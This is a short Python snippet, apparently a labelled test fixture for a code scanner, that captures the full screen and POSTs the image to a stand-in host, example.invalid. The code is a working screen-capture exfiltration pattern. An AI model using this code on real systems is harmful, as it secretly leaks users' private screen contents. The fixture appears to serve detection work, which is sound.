import io
import requests
from PIL import ImageGrab

picture = io.BytesIO()
ImageGrab.grab().save(picture, format="PNG")
requests.post("https://example.invalid/", files={"p": picture.getvalue()})  # expect: source/screen-capture-to-network import conclusive
